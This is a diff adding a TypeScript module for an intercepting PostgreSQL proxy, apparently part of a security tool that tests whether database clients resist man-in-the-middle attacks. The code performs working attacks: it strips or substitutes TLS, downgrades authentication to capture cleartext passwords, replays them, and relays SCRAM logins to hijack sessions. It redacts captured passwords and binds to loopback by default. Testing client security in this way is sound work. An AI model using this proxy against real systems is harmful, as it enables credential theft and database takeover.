@@ -1,0 +1,321 @@
+import { createServer, type Server, type Socket } from "node:net";
+import { TLSSocket } from "node:tls";
+import type { Issued } from "../lab/certs.js";
+import { frameMessage, parseAuthentication, parseErrorResponse } from "../pgwire/backend.js";
+import { parseFirstPacket, parseSaslInitialResponse } from "../pgwire/client-messages.js";
+import {
+  authenticationCleartextPassword,
+  authenticationSasl,
+  errorResponse,
+} from "../pgwire/server-messages.js";
+import { Connection, describeSocketError } from "../probe/connection.js";
+import type { Attack, ConnectionFacts } from "./model.js";
+import { openUpstream, runQuery, type Upstream } from "./upstream-relay.js";
+
+export interface ProxyOptions {
+  attack: Attack;
+  /** plaintext: answer N to SSLRequest (strip); tls: answer S and present `certificate`. */
+  channel: "plaintext" | "tls";
+  certificate?: Issued;
+  listenHost: string;
+  listenPort: number;
+  timeoutMs: number;
+  /** Relay to the real server (verified TLS) instead of playing it; the proxy then runs `query` itself. */
+  upstream?: Upstream;
+  /** For `downgrade` with an upstream: log in with the captured password and run the query. */
+  replayPassword?: (user: string, database: string, password: string) => Promise<ConnectionFacts["query"]>;
+}
+
+export interface AttackProxy {
+  port: number;
+  connections(): ConnectionFacts[];
+  close(): Promise<void>;
+}
+
+/** A client makes at most a couple of connections per run (sslmode=allow/prefer retry); more is not a client. */
+const MAX_CONNECTIONS = 4;
+export const PROOF_QUERY = "SELECT current_user";
+
+/**
+ * An intercepting pgwire server for one attack, bound to loopback by default. Each connection is walked through
+ * the attack and what the client did is recorded as facts; the password, when one is sent, is measured and
+ * dropped (or, with an upstream, used once to prove it works, then dropped).
+ */
+export async function startAttackProxy(o: ProxyOptions): Promise<AttackProxy> {
+  const facts: ConnectionFacts[] = [];
+  const sockets = new Set<Socket>();
+  const server: Server = createServer((socket) => {
+    sockets.add(socket);
+    socket.on("close", () => sockets.delete(socket));
+    if (facts.length >= MAX_CONNECTIONS) {
+      socket.destroy();
+      return;
+    }
+    const f: ConnectionFacts = { steps: [], askedTls: false, tlsEstablished: false, answeredAuth: false };
+    facts.push(f);
+    handle(new Connection(socket), f, o).catch((e) => f.steps.push(`proxy error: ${describeSocketError(e)}`));
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once("error", reject);
+    server.listen(o.listenPort, o.listenHost, () => resolve());
+  });
+  const address = server.address();
+  if (!address || typeof address === "string") throw new Error("proxy: no port");
+  return {
+    port: address.port,
+    connections: () => facts,
+    close: () =>
+      new Promise<void>((resolve) => {
+        for (const s of sockets) s.destroy();
+        server.close(() => resolve());
+      }),
+  };
+}
+
+async function handle(conn: Connection, f: ConnectionFacts, o: ProxyOptions): Promise<void> {
+  const step = (s: string) => f.steps.push(s);
+  let client = conn;
+  try {
+    // Up to two untyped packets: GSSENCRequest (answered N), then SSLRequest or the StartupMessage itself.
+    for (let round = 0; round < 3; round++) {
+      const first = await client.waitFor((b) => {
+        const p = parseFirstPacket(b);
+        return p.kind === "incomplete" ? undefined : p;
+      }, o.timeoutMs);
+      if (first.kind !== "ok") {
+        step(
+          first.kind === "timeout"
+            ? "client sent nothing before the timeout"
+            : "client closed the connection",
+        );
+        return;
+      }
+      const packet = first.value;
+      if (packet.kind === "invalid") {
+        step(`client sent an invalid startup packet (${packet.reason})`);
+        return;
+      }
+      client.consume(packet.length);
+      if (packet.kind === "gssenc-request") {
+        step("client asked for GSS encryption; proxy answered N");
+        client.write(Buffer.from("N"));
+        continue;
+      }
+      if (packet.kind === "cancel-request") {
+        step("client sent a CancelRequest");
+        return;
+      }
+      if (packet.kind === "ssl-request") {
+        f.askedTls = true;
+        if (o.channel === "plaintext") {
+          step("client asked for TLS (SSLRequest); proxy answered N (TLS not available)");
+          client.write(Buffer.from("N"));
+          continue;
+        }
+        step("client asked for TLS (SSLRequest); proxy answered S and presented its certificate");
+        client.write(Buffer.from("S"));
+        const upgraded = await acceptTls(client, o);
+        if ("refused" in upgraded) {
+          f.tlsRefused = upgraded.refused;
+          step(`client refused the TLS handshake (${upgraded.refused})`);
+          return;
+        }
+        client = upgraded.conn;
+        f.tlsEstablished = true;
+        step(`client completed TLS with the proxy's certificate (${upgraded.protocol})`);
+        continue;
+      }
+      // StartupMessage.
+      const user = packet.params.user ?? "";
+      const database = packet.params.database ?? user;
+      f.startup = { user, database, inTls: f.tlsEstablished };
+      step(
+        `client sent StartupMessage for user ${user}, database ${database} ${f.tlsEstablished ? "inside the attacker's TLS" : f.askedTls ? "in plaintext after N" : "in plaintext without asking for TLS"}`,
+      );
+      await authenticate(client, f, o, packet.params);
+      return;
+    }
+  } finally {
+    client.close();
+    conn.close();
+  }
+}
+
+async function acceptTls(
+  conn: Connection,
+  o: ProxyOptions,
+): Promise<{ conn: Connection; protocol: string } | { refused: string }> {
+  if (!o.certificate) return { refused: "proxy has no certificate" };
+  const socket = conn.detach();
+  const tls = new TLSSocket(socket, {
+    isServer: true,
+    cert: o.certificate.certPem,
+    key: o.certificate.keyPem,
+  });
+  return new Promise((resolve) => {
+    const timer = setTimeout(() => {
+      tls.destroy();
+      resolve({ refused: `no TLS handshake within ${o.timeoutMs} ms` });
+    }, o.timeoutMs);
+    tls.once("secure", () => {
+      clearTimeout(timer);
+      resolve({ conn: new Connection(tls), protocol: tls.getProtocol() ?? "TLS" });
+    });
+    tls.once("error", (e) => {
+      clearTimeout(timer);
+      tls.destroy();
+      resolve({ refused: alertText(e) });
+    });
+    tls.once("close", () => {
+      clearTimeout(timer);
+      resolve({ refused: "the client closed the connection during the handshake" });
+    });
+  });
+}
+
+function alertText(e: unknown): string {
+  const m = /alert ([a-z0-9 _]+)/i.exec((e as Error)?.message ?? "");
+  return m ? `TLS alert: ${m[1]?.trim()}` : describeSocketError(e);
+}
+
+const nextMessage = (conn: Connection, timeoutMs: number) =>
+  conn.waitFor((b) => {
+    const f = frameMessage(b);
+    return f.kind === "incomplete" ? undefined : f;
+  }, timeoutMs);
+
+/** After the StartupMessage: play the server's authentication, or relay it to the real server. */
+async function authenticate(
+  client: Connection,
+  f: ConnectionFacts,
+  o: ProxyOptions,
+  params: Record<string, string>,
+): Promise<void> {
+  const step = (s: string) => f.steps.push(s);
+  if (o.upstream && o.attack !== "downgrade") {
+    await relay(client, f, o.upstream, params, o.timeoutMs);
+    return;
+  }
+  if (o.attack === "downgrade") {
+    step("proxy asked for the password in cleartext (AuthenticationCleartextPassword)");
+    client.write(authenticationCleartextPassword());
+  } else {
+    // SCRAM without the -PLUS variant: a client that insists on channel binding refuses here, as it would against
+    // the real server, whose binding data never matches the attacker's certificate.
+    step("proxy asked for SCRAM-SHA-256 (AuthenticationSASL)");
+    client.write(authenticationSasl(["SCRAM-SHA-256"]));
+  }
+  const reply = await nextMessage(client, o.timeoutMs);
+  if (reply.kind !== "ok" || reply.value.kind !== "message") {
+    step(
+      reply.kind === "timeout"
+        ? "client sent nothing more before the timeout"
+        : "client closed the connection instead of authenticating",
+    );
+    return;
+  }
+  const { type, body } = reply.value.message;
+  if (type !== "p") {
+    step(`client answered with message '${type}' instead of authenticating`);
+    return;
+  }
+  f.answeredAuth = true;
+  if (o.attack === "downgrade") {
+    const end = body.indexOf(0);
+    const password = body.subarray(0, end < 0 ? body.length : end).toString("utf8");
+    f.passwordLength = [...password].length;
+    step(`client sent its password in cleartext (redacted, ${f.passwordLength} chars)`);
+    if (o.replayPassword) {
+      f.query = await o.replayPassword(params.user ?? "", params.database ?? params.user ?? "", password);
+      if (f.query?.result !== undefined) {
+        f.upstreamAuthenticated = true;
+        step(`proxy logged in to the real server with it and ran ${f.query.sql} → ${f.query.result}`);
+      } else step(`proxy could not log in to the real server with it: ${f.query?.error ?? "unknown error"}`);
+    }
+  } else {
+    const sasl = parseSaslInitialResponse(body);
+    step(
+      `client answered with a SASL ${sasl?.mechanism ?? "?"} initial response (it authenticates to the attacker)`,
+    );
+  }
+  client.write(errorResponse("28P01", "password authentication failed"));
+}
+
+/**
+ * Relays authentication between the client and the real server over verified TLS; once the server says
+ * AuthenticationOk, the session is the proxy's: it runs PROOF_QUERY itself, then closes both sides.
+ */
+async function relay(
+  client: Connection,
+  f: ConnectionFacts,
+  upstream: Upstream,
+  params: Record<string, string>,
+  timeoutMs: number,
+): Promise<void> {
+  const step = (s: string) => f.steps.push(s);
+  const server = await openUpstream(upstream, params, timeoutMs);
+  if ("error" in server) {
+    step(`proxy could not reach the real server: ${server.error}`);
+    return;
+  }
+  f.relayed = true;
+  step("proxy relayed the StartupMessage to the real server over verified TLS");
+  try {
+    for (let i = 0; i < 16; i++) {
+      const m = await nextMessage(server.conn, timeoutMs);
+      if (m.kind !== "ok" || m.value.kind !== "message") {
+        step("the real server stopped answering during authentication");
+        return;
+      }
+      const raw = server.conn.buffer.subarray(0, 1 + m.value.message.body.length + 4);
+      server.conn.consume(raw.length);
+      const { type, body } = m.value.message;
+      if (type === "E") {
+        const e = parseErrorResponse(body);
+        f.upstreamRefusal = `${e.code} ${e.message}`;
+        step(`the real server refused the relayed authentication: ${e.code} ${e.message}`);
+        client.write(raw);
+        return;
+      }
+      if (type !== "R") continue;
+      const auth = parseAuthentication(body);
+      if (auth?.code === 0) {
+        f.upstreamAuthenticated = true;
+        step(
+          "the real server accepted the relayed authentication (AuthenticationOk): the session is the proxy's",
+        );
+        f.query = await runQuery(server.conn, timeoutMs);
+        step(
+          f.query.result !== undefined
+            ? `proxy ran ${f.query.sql} on the hijacked session → ${f.query.result}`
+            : `proxy's query failed: ${f.query.error}`,
+        );
+        client.write(errorResponse("08006", "connection taken over by wirewarden prove"));
+        return;
+      }
+      if (auth?.code === 10 && !f.tlsEstablished && auth.mechanisms.some((m) => m.endsWith("-PLUS"))) {
+        // libpq refuses SCRAM-SHA-256-PLUS offered over plaintext, so an attacker hides it, as this one does.
+        const plain = auth.mechanisms.filter((m) => !m.endsWith("-PLUS"));
+        step(
+          `the real server offered ${auth.mechanisms.join(", ")}; proxy passed on only ${plain.join(", ")}`,
+        );
+        client.write(authenticationSasl(plain));
+      } else client.write(raw);
+      if (auth?.code === 11 || auth?.code === 10 || auth?.code === 3 || auth?.code === 5) {
+        const reply = await nextMessage(client, timeoutMs);
+        if (reply.kind !== "ok" || reply.value.kind !== "message") {
+          step(`client stopped authenticating after ${auth.name}`);
+          return;
+        }
+        const len = 1 + 4 + reply.value.message.body.length;
+        const clientRaw = client.buffer.subarray(0, len);
+        client.consume(len);
+        if (reply.value.message.type === "p") f.answeredAuth = true;
+        step(`client answered ${auth.name}; relayed`);
+        server.conn.write(clientRaw);
+      }
+    }
+  } finally {
+    server.conn.close();
+  }
+}
